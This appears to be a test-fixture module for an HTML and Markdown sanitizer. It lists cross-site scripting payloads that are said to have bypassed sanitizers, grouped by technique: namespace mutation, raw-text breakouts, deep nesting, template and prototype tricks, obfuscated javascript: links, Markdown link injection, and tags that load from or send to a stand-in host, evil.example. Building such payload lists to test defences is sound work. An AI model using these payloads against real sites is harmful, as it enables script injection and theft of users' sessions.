/** Sets `window.owned` when it is parsed as markup. */
export const scriptMarkup = '<img src=x onerror="window.owned=1">'

/** Markup that bypassed sanitizers, by technique. */
export const harmfulMarkup = {
  'mutating namespaces': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=1&gt;">`,
    `<svg></p><style><a id="</style>${scriptMarkup}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${scriptMarkup}`,
    `<math><annotation-xml encoding="text/html"><style>${scriptMarkup}</style></annotation-xml></math>`,
    `<svg><desc><noscript>${scriptMarkup}</noscript></desc><foreignobject><p>${scriptMarkup}</p></foreignobject></svg>`,
  ],
  'raw text elements': [
    `<noscript><p title="</noscript>${scriptMarkup}">`,
    `<textarea><img title="</textarea>${scriptMarkup}">`,
    `<xmp><p title="</xmp>${scriptMarkup}">`,
    `<title><p title="</title>${scriptMarkup}">`,
    `<noembed><p title="</noembed>${scriptMarkup}"><plaintext>`,
    `<select><template><style><!--</style><a rel="--></style></template></select>${scriptMarkup}">`,
    `<!--><script>window.owned=1</script>--> <!--x--!>${scriptMarkup} <?x ${scriptMarkup}?> <![CDATA[${scriptMarkup}]]>`,
  ],
  nesting: [
    `${'<div>'.repeat(600)}<table><caption>${'<svg><title>'.repeat(20)}<style><a title="</style>${scriptMarkup}">`,
    `${'<font>'.repeat(510)}${scriptMarkup}`,
    `${'<a><table>'.repeat(100)}${scriptMarkup}`,
    `${'> '.repeat(150)}${scriptMarkup}`,
    `${'- '.repeat(150)}${scriptMarkup}`,
  ],
  'templates and prototypes': [
    `{{constructor.constructor('window.owned=1')()}} \${window.owned=1} <%= window.owned=1 %>`,
    `<template><script>window.owned=1</script></template><div is="x-y" ${'data-x="{{'}window.owned=1}}"></div>`,
    '<form id="attributes"><input name="nodeName"><input name="__proto__"></form><a id="constructor" name="prototype">x</a>',
    `<x-y onclick="window.owned=1" autofocus tabindex=0 onfocus=window.owned=1>x</x-y>`,
    `<template shadowrootmode="open">${scriptMarkup}</template>`,
  ],
  links: [
    ...[
      'javascript:window.owned=1',
      'JaVaScRiPt:window.owned=1',
      ' \u0001javascript:window.owned=1',
      'java\tscript:window.owned=1',
    ],
    ...[
      'javascript&colon;window.owned=1',
      '&#106;avascript:window.owned=1',
      'data:text/html,<script>opener.owned=1</script>',
    ],
    ...[
      'vbscript:x',
      'blob:x',
      'file:///etc/passwd',
      'javascript://%0awindow.owned=1',
      'view-source:x',
      'feed:javascript:1',
    ],
  ].map((href) => `<a href="${href}">press</a>`),
  'links in Markdown': [
    '[press](javascript:window.owned=1) [press](<java\nscript:window.owned=1>) [press](JAVASCRIPT&colon;window.owned=1)',
    '[press](https://x.example/"onmouseover="window.owned=1) ![x" onerror="window.owned=1](x)',
    '[press][r]\n\n[r]: javascript:window.owned=1 "x\\" onfocus=window.owned=1"',
    '<javascript:window.owned=1> <https://x.example/"onclick=window.owned=1>',
    '`<img src=x onerror=window.owned=1>` ```html\n<img src=x onerror=window.owned=1>\n```',
  ],
  'elements that load or send': [
    '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css"><style>@import "http://evil.example/x.css"</style>',
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe><object data="x"></object><embed src="x">',
    '<form action="http://evil.example/"><button formaction="javascript:window.owned=1">press</button></form>',
    '<a href="/about" style="position:fixed;inset:0" ping="http://evil.example/" download="x">press</a>',
    '<video src=x onerror=window.owned=1></video><audio src=x onerror=window.owned=1><details open ontoggle=window.owned=1>',
    '<svg><animate attributeName=href values=javascript:window.owned=1 /><use href="data:image/svg+xml,x"/></svg>',
  ],
}
